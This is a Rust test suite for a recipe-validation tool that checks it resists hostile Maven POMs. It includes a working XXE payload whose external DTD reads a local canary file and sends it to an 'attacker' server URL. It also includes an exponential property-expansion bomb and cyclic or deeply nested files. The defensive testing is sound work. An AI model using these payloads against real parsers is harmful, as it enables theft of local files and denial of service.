//! Hostile repositories through the real binary: POMs that try to read a local file and send it
//! to a server they name (XXE), in the base commit itself, in a parent and in a dependency's POM
//! that a declared repository serves. The attacker's server must receive no request, and the
//! file's content must appear nowhere: not in the artifacts, not on stdout or stderr.

mod common;
#[path = "common/files.rs"]
mod files;

use files::FileServer;

fn validate(repo: &std::path::Path, recipe: &std::path::Path, out: &std::path::Path) -> assert_cmd::Command {
    common::validate_embedded(&[], repo, recipe, out)
}

fn exfiltrating_dtd(canary: &std::path::Path, attacker: &FileServer) -> String {
    format!(
        "<!ENTITY % file SYSTEM \"file://{}\">\n<!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '{}x?%file;'>\">\n%all;\n%send;\n",
        canary.display(),
        attacker.url
    )
}

fn doctype(attacker: &FileServer) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE project [<!ENTITY % p SYSTEM \"{}e.dtd\"> %p;]>\n",
        attacker.url
    )
}

fn pom(attacker: &FileServer, repository: &FileServer, dependency: &str) -> String {
    format!(
        r#"{}<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <parent><groupId>evil</groupId><artifactId>parent</artifactId><version>1.0</version><relativePath/></parent>
  <artifactId>app</artifactId>
  <repositories><repository><id>declared</id><url>{}</url></repository></repositories>
  <dependencies>
    <dependency><groupId>evil</groupId><artifactId>{dependency}</artifactId><version>1.0</version></dependency>
  </dependencies>
</project>
"#,
        doctype(attacker),
        repository.url
    )
}

#[test]
fn no_pom_can_send_a_file_away_or_into_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("canary.txt");
    let secret = format!("CANARY-{}", std::process::id());
    std::fs::write(&canary, format!("{secret}\n")).unwrap();
    let attacker = FileServer::start();
    attacker.serve("/e.dtd", exfiltrating_dtd(&canary, &attacker));
    let repository = FileServer::start();
    let remote_pom = |artifact: &str, packaging: &str| {
        format!(
            "{}<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId><artifactId>{artifact}</artifactId><version>1.0</version><packaging>{packaging}</packaging></project>\n",
            doctype(&attacker)
        )
    };
    repository.serve("/evil/parent/1.0/parent-1.0.pom", remote_pom("parent", "pom"));
    repository.serve("/evil/dep/1.0/dep-1.0.pom", remote_pom("dep", "jar"));

    let repo = common::pr_repo(
        &dir.path().join("repo"),
        &[("pom.xml", &pom(&attacker, &repository, "dep")), ("README.md", "old\n")],
        &[("README.md", "new\n")],
    );
    let recipe = dir.path().join("recipe.yml");
    std::fs::write(
        &recipe,
        "type: specs.openrewrite.org/v1beta/recipe\nname: test.Readme\nrecipeList:\n  - org.openrewrite.text.FindAndReplace:\n      find: old\n      replace: new\n",
    )
    .unwrap();
    let out = dir.path().join("out");
    let output =
        validate(repo.path(), &recipe, &out).env("REWRITE_ASSIST_POM_CACHE", "off").output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}\n{stdout}");
    assert_eq!(attacker.requests(), Vec::<String>::new(), "the attacker's server was contacted");
    assert!(
        repository.requests().iter().any(|r| r.contains("parent-1.0.pom")),
        "the parent was never fetched, so nothing was tried: {:?}",
        repository.requests()
    );
    assert!(!stdout.contains(&secret) && !stderr.contains(&secret), "{stdout}\n{stderr}");
    for entry in
        walkdir::WalkDir::new(&out).into_iter().filter_map(Result::ok).filter(|e| e.file_type().is_file())
    {
        let text = String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()).into_owned();
        assert!(!text.contains(&secret), "{} carries the canary", entry.path().display());
    }
    // The change itself still validates.
    let stats = common::json_stdout(&output);
    assert_eq!(stats["metrics"]["perfect_match"], true, "{stats:#}");
}

/// The battery's pathological files, beside an ordinary Java change: each costs only itself (plain
/// text, named in the warnings) and the Java change still validates with F1 1.0.
#[test]
fn pathological_files_cost_only_themselves() {
    let dir = tempfile::tempdir().unwrap();
    let nested = |depth: usize| format!("{}\n{}\n", "a {".repeat(depth), "}".repeat(depth));
    let catalog: String = std::iter::once("[versions]\n".to_string())
        .chain((0..10_000).map(|i| format!("v{i} = \"1.{i}\"\n")))
        .collect();
    let properties: String = std::iter::once("<p0>x</p0>".to_string())
        .chain((1..=40).map(|i| format!("<p{i}>${{p{}}}${{p{}}}</p{i}>", i - 1, i - 1)))
        .collect();
    let bomb = format!(
        "<project><modelVersion>4.0.0</modelVersion><groupId>b</groupId><artifactId>bomb</artifactId><version>1</version><properties>{properties}</properties><dependencies><dependency><groupId>b</groupId><artifactId>c</artifactId><version>${{p40}}</version></dependency></dependencies></project>\n"
    );
    let cyclic = |me: &str, parent: &str| {
        format!(
            "<project><modelVersion>4.0.0</modelVersion><parent><groupId>c</groupId><artifactId>{parent}</artifactId><version>1</version><relativePath>../{parent}/pom.xml</relativePath></parent><artifactId>{me}</artifactId></project>\n"
        )
    };
    let app = |ty: &str| {
        format!("package com.acme;\n\nimport java.util.{ty};\n\nclass App {{\n    {ty}<String> names;\n}}\n")
    };
    let pom = "<project><modelVersion>4.0.0</modelVersion><groupId>com.acme</groupId><artifactId>app</artifactId><version>1</version></project>\n";
    let (deep, deeper, cycle_a, cycle_b) = (nested(1_000), nested(5_000), cyclic("a", "b"), cyclic("b", "a"));
    let repo = common::pr_repo(
        &dir.path().join("repo"),
        &[
            ("pom.xml", pom),
            ("src/main/java/com/acme/App.java", &app("Vector")),
            ("deep/build.gradle", &deep),
            ("deeper/build.gradle", &deeper),
            ("gradle/libs.versions.toml", &catalog),
            ("bomb/pom.xml", &bomb),
            ("cycle/a/pom.xml", &cycle_a),
            ("cycle/b/pom.xml", &cycle_b),
        ],
        &[("src/main/java/com/acme/App.java", &app("ArrayList"))],
    );
    let recipe = dir.path().join("recipe.yml");
    std::fs::write(
        &recipe,
        "type: specs.openrewrite.org/v1beta/recipe\nname: test.Lists\nrecipeList:\n  - org.openrewrite.java.ChangeType:\n      oldFullyQualifiedTypeName: java.util.Vector\n      newFullyQualifiedTypeName: java.util.ArrayList\n",
    )
    .unwrap();
    let out = dir.path().join("out");
    let output = validate(repo.path(), &recipe, &out).output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}\n{stdout}");
    let stats = common::json_stdout(&output);
    assert_eq!(stats["metrics"]["f1"], 1.0, "{stats:#}");
    let said = format!("{stats}{stderr}");
    for path in
        ["deep/build.gradle", "deeper/build.gradle", "gradle/libs.versions.toml", "bomb/pom.xml", "cycle/"]
    {
        assert!(said.contains(path), "{path} is not named:\n{stats:#}\n{stderr}");
    }
}
